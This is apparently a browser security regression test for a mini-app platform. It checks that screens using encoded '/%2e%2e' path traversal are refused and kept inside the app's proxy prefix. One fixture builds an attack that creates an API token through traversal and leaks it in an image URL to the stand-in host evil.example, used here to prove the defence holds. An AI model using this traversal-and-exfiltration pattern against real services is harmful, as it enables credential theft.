// The security review's attack, in Chromium: screens naming `/%2e%2e/…` addresses (a networkRequest to the tokens
// API, an openPage, a storage key, a dataset) opened hosted (stored behind the validator's back) and remote, in the
// web client and in <miniapp-view> on another origin. Nothing leaves the app's proxy prefix, no token is made, and
// the user sees a clear `bad_path` state (the element also says so with miniapp:error).
import { createServer, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deploy } from '../../server/test/deploy-fixtures.js';
import { testCertificates } from '../../server/test/helpers/https-origin.js';
import type { SignedIn } from '../../server/test/helpers/platform.js';
import { hostedApp, originEnv, remoteApp } from '../../server/test/helpers/proxy-apps.js';
import { launchBrowser, newContext, startWebPlatform, type WebPlatform } from './helpers/browser.js';

const UP = '/%2e%2e'.repeat(8);
/** `${path}` as a screen writes it. */
const binding = (path: string) => `\${${path}}`;

/** The four attacks, each the start screen of its own app, run on load as the review found them. */
const attacks: Record<string, object> = {
  tokens: {
    type: 'screen',
    onLoad: {
      actionType: 'networkRequest',
      method: 'POST',
      url: `${UP}/api/v1/tokens`,
      body: { name: 'x' },
      resultTo: 'state.tok',
    },
    children: [
      { type: 'text', text: 'Attack page' },
      {
        type: 'image',
        src: `https://evil.example/c?t=${binding('state.tok.token')}`,
        alt: 'x',
        width: 10,
        height: 10,
      },
    ],
  },
  open: {
    type: 'screen',
    onLoad: { actionType: 'openPage', path: `${UP}/api/v1/me` },
    children: [{ type: 'text', text: 'Attack page' }],
  },
  storage: {
    type: 'screen',
    onLoad: { actionType: 'storageSet', key: '..', value: { name: 'x' } },
    children: [{ type: 'text', text: 'Attack page' }],
  },
  data: {
    type: 'screen',
    onLoad: { actionType: 'networkRequest', url: `/data${UP}/api/v1/tokens`, resultTo: 'state.tok' },
    children: [{ type: 'text', text: 'Attack page' }],
  },
};
const names = Object.keys(attacks);

/** A remote origin answering each attack at its own start path (`/tokens`, `/open`…); the rest a plain page. */
async function startAttackOrigin(): Promise<{ port: number; paths: string[]; close(): Promise<void> }> {
  const paths: string[] = [];
  const server = createHttpsServer(testCertificates(), (req, res) => {
    const path = (req.url ?? '/').split('?')[0] ?? '/';
    paths.push(path);
    const screen = attacks[path.slice(1)] ?? {
      type: 'screen',
      children: [{ type: 'text', text: `At ${path}` }],
    };
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(screen));
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return {
    port: (server.address() as AddressInfo).port,
    paths,
    close: () => new Promise((done) => server.close(() => done())),
  };
}

describe('screens that name addresses outside their app, in Chromium', () => {
  let t: WebPlatform;
  let origin: Awaited<ReturnType<typeof startAttackOrigin>>;
  let pages: Server;
  let pageOrigin: string;
  let browser: Browser;
  let dev: SignedIn;
  let user: SignedIn;

  beforeAll(async () => {
    origin = await startAttackOrigin();
    pages = createServer((req, res) => {
      const [, app = '', lang = 'en'] = /^\/([^?]*)\??(?:lang=(\w+))?/.exec(req.url ?? '') ?? [];
      res.writeHead(200, { 'content-type': 'text/html' }).end(elementPage(app, lang));
    });
    await new Promise<void>((done) => pages.listen(0, '127.0.0.1', done));
    // localhost, not 127.0.0.1: another origin than the platform's, listed in CORS_ORIGINS.
    pageOrigin = `http://localhost:${(pages.address() as AddressInfo).port}`;
    t = await startWebPlatform('sqlite', {
      ...originEnv(testCertificates().caFile),
      CORS_ORIGINS: pageOrigin,
    });
    browser = await launchBrowser();
    dev = await t.login('dev@uni.example');
    user = await t.login('ada@uni.example');
    for (const name of names) {
      // Hosted: written straight into the store, as if an older validator had let it through.
      await hostedApp(t, dev, {
        org: 'acme',
        slug: `hosted-${name}`,
        live: [{ path: '/', json: attacks[name]! }],
      });
      await remoteApp(t, dev, {
        org: 'acme',
        slug: `remote-${name}`,
        origin: `https://origin.test:${origin.port}`,
      });
      await t.platform.db
        .updateTable('apps')
        .set({ liveStartPath: `/${name}`, startPath: `/${name}` })
        .where('slug', '=', `remote-${name}`)
        .execute();
    }
  });
  afterAll(async () => {
    await browser?.close();
    await t?.close();
    await origin?.close();
    await new Promise((done) => pages?.close(done));
  });

  function elementPage(app: string, lang: string): string {
    return `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><script>
  window.events = [];
  document.addEventListener('miniapp:error', (e) => events.push(JSON.parse(JSON.stringify(e.detail))));
</script><script type="module" src="${t.baseUrl}/embed/miniapp-view.js"></script></head>
<body><miniapp-view app="acme/${app}"></miniapp-view></body></html>`;
  }

  interface Sent {
    method: string;
    url: URL;
    /** Sent by the host kit on the app's behalf (its screens and API calls carry the launch source). */
    forApp: boolean;
  }

  /** Every request the page makes. */
  function recorded(page: Page): Sent[] {
    const seen: Sent[] = [];
    page.on('request', (request) =>
      seen.push({
        method: request.method(),
        url: new URL(request.url()),
        forApp: request.headers()['x-miniapps-launch-source'] !== undefined,
      }),
    );
    return seen;
  }

  /** Nothing the page sent left `slug`'s proxy prefix: no write elsewhere, no other app, no tokens API, no leak. */
  function expectConfined(seen: Sent[], slug: string) {
    const prefix = `/functions/v1/miniapp-proxy/acme/${slug}/`;
    const platform = new URL(t.baseUrl).origin;
    for (const { method, url, forApp } of seen) {
      const where = `${method} ${url.href}`;
      if (forApp) expect(url.origin + url.pathname, where).toMatch(new RegExp(`^${platform}${prefix}`));
      if (url.origin === platform) {
        if (url.pathname.startsWith('/functions/')) expect(url.pathname.startsWith(prefix), where).toBe(true);
        expect(url.pathname.startsWith('/api/v1/tokens'), where).toBe(false);
        // The one write outside the prefix is the host's own exchange of the user's token for this app's session.
        const exchange = method === 'POST' && url.pathname === `/api/v1/me/apps/acme/${slug}/session`;
        if (method !== 'GET' && method !== 'OPTIONS' && !exchange)
          expect(url.pathname.startsWith(prefix), where).toBe(true);
      } else if (url.hostname === 'evil.example') {
        expect(url.searchParams.get('t') ?? '', where).toBe('');
      } else {
        expect(url.origin === pageOrigin || url.protocol === 'data:', where).toBe(true);
      }
    }
    // The app did talk to the platform (its start screen), so the rules above had something to hold.
    expect(seen.some(({ url, forApp }) => forApp && url.pathname.startsWith(prefix))).toBe(true);
  }

  async function expectNoTokens() {
    const res = await t.request({ method: 'GET', url: '/api/v1/tokens', headers: user.auth });
    expect(res.json()).toMatchObject({ tokens: [] });
  }

  it('the deploy refuses each attack with 422 bad_screens naming the pointer', async () => {
    const made = await t.request({
      method: 'POST',
      url: '/api/v1/tokens',
      headers: dev.auth,
      payload: { name: 'ci' },
    });
    const token = (made.json() as { token: string }).token;
    const pointers: Record<string, string> = {
      tokens: '/screens/0/json/onLoad/url',
      open: '/screens/0/json/onLoad/path',
      data: '/screens/0/json/onLoad/url',
    };
    for (const [name, pointer] of Object.entries(pointers)) {
      const res = await deploy(t, token, {
        organizationId: 'acme',
        slug: `hosted-${name}`,
        screens: [{ path: '/', json: attacks[name] }],
      });
      expect(res.statusCode, name).toBe(422);
      const body = res.json() as { error: string; details: unknown };
      expect(body.error).toBe('bad_screens');
      expect(JSON.stringify(body.details)).toContain(pointer);
    }
  });

  it.each(names.flatMap((name) => [`hosted-${name}`, `remote-${name}`]))(
    'the web client opens %s: refused with bad_path, nothing leaves the app',
    async (slug) => {
      const page = await (await newContext(browser, { who: user })).newPage();
      const seen = recorded(page);
      await page.goto(`${t.baseUrl}/apps/acme/${slug}`);
      const banner = page.locator('[data-error-code="bad_path"]');
      await banner.waitFor();
      expect(await banner.textContent()).toContain('outside itself');
      await page.waitForLoadState('networkidle');
      expectConfined(seen, slug);
      await expectNoTokens();
      await page.context().close();
    },
  );

  it.each(names.flatMap((name) => [`hosted-${name}`, `remote-${name}`]))(
    '<miniapp-view> on another origin opens %s: miniapp:error bad_path, nothing leaves the app',
    async (slug) => {
      const lang = slug.endsWith('tokens') ? 'ru' : 'en';
      const page = await (await newContext(browser)).newPage();
      const seen = recorded(page);
      await page.goto(`${pageOrigin}/${slug}?lang=${lang}`);
      await page.waitForFunction(() => customElements.get('miniapp-view') !== undefined);
      await page.evaluate((token) => {
        (document.querySelector('miniapp-view') as unknown as { token: string }).token = token;
      }, user.token);
      const banner = page.locator('miniapp-view [data-error-code="bad_path"]');
      await banner.waitFor();
      expect(await banner.textContent()).toContain(lang === 'ru' ? 'за своими пределами' : 'outside itself');
      await page.waitForFunction(() => (window as unknown as { events: unknown[] }).events.length > 0);
      const events = (await page.evaluate(
        () => (window as unknown as { events: unknown[] }).events,
      )) as Array<{
        code: string;
      }>;
      expect(events.map((e) => e.code)).toEqual(['bad_path']);
      await page.waitForLoadState('networkidle');
      expectConfined(seen, slug);
      await expectNoTokens();
      await page.context().close();
    },
  );

  it('the remote origin was only ever asked for its own start pages', () => {
    expect(new Set(origin.paths)).toEqual(new Set(names.map((name) => `/${name}`)));
  });
});
